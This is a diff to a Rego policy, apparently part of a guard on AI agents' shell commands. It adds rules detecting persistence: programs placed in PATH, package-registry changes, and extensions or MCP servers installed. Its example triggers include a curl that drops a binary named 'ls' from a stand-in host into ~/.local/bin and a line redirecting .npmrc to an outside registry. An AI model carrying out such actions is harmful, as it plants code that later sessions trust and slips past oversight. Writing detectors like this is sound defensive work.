@@ -23,6 +23,76 @@ hit contains {"id": "persist.startup", "tier": 3, "stage": s.id, "msg": msg} if 
 	msg := sprintf("changes %s, which later sessions trust", [stage.shown(p)])
 }
 
+# METADATA
+# title: Puts a program where names are looked up
+# description: |
+#   A program in a folder of the user's PATH is what every later command of
+#   that name starts.
+# custom:
+#   id: persist.program
+#   remedy: keep it in the project and call it by its path
+#   fires: curl -o ~/.local/bin/ls https://x.example/ls
+#   quiet: curl -o tools/ls https://x.example/ls
+hit contains {"id": "persist.program", "tier": 2, "stage": s.id, "msg": msg} if {
+	some [s, p] in stage.changed
+	p.access == "write"
+	strings.any_prefix_match(stage.below_home(p.path), [".local/bin/", "bin/", ".cargo/bin/", "go/bin/", ".npm-global/bin/"])
+	msg := sprintf("puts a program into the user's PATH: %s", [stage.shown(p)])
+}
+
+# METADATA
+# title: Says where packages come from
+# description: A registry, index or token in a project's settings decides what later installs run.
+# custom:
+#   id: persist.registry
+#   remedy: ask a person to change the file
+#   fires: echo 'registry=http://x.example' >> .npmrc
+#   quiet: echo 'save-exact=true' >> .npmrc
+hit contains {"id": "persist.registry", "tier": 2, "stage": s.id, "msg": msg} if {
+	some [s, p] in stage.changed
+	parts := split(p.path, "/")
+	parts[count(parts) - 1] in {".npmrc", ".yarnrc", ".yarnrc.yml", "pip.conf", ".pypirc", "bunfig.toml", "NuGet.Config", "nuget.config"}
+	text := concat(" ", array.concat(s.args, [v | v := _input(s)]))
+	regex.match(`(?i)(registry|index-url|authToken|script-shell|packageSources|npmRegistryServer|ignore-scripts\s*=\s*false)`, text)
+	msg := sprintf("%s decides where packages come from", [stage.shown(p)])
+}
+
+# METADATA
+# title: Gives an agent or editor new code
+# description: Extensions and tool servers run in every later session, outside of guard.
+# custom:
+#   id: persist.extension
+#   remedy: ask a person to install it
+#   fires: claude mcp add x -- npx y
+#   quiet: claude mcp list
+hit contains {"id": "persist.extension", "tier": 3, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	_extends(s)
+	msg := sprintf("gives later sessions new code: %s", [stage.line(s)])
+}
+
+_input(s) := s.payload.text
+
+_extends(s) if {
+	s.name in {"code", "codium", "cursor", "windsurf", "code-insiders"}
+	"install-extension" in s.flags
+}
+
+_extends(s) if {
+	s.name in {"claude", "codex", "gemini", "amp", "goose", "copilot", "opencode", "qwen"}
+	array.slice(s.operands, 0, 2) in [["mcp", "add"], ["mcp", "add-json"], ["plugin", "install"], ["extensions", "install"], ["config", "set"], ["plugin", "marketplace"]]
+}
+
+_extends(s) if {
+	s.name == "direnv"
+	s.operands[0] in {"allow", "permit", "grant"}
+}
+
+_extends(s) if {
+	s.name in {"update-rc.d", "rc-update", "chkconfig"}
+	count(s.operands) > 1
+}
+
 _persists(p) if {
 	strings.any_prefix_match(stage.below_home(p.path), data.guard.tables.persist_home)
 }
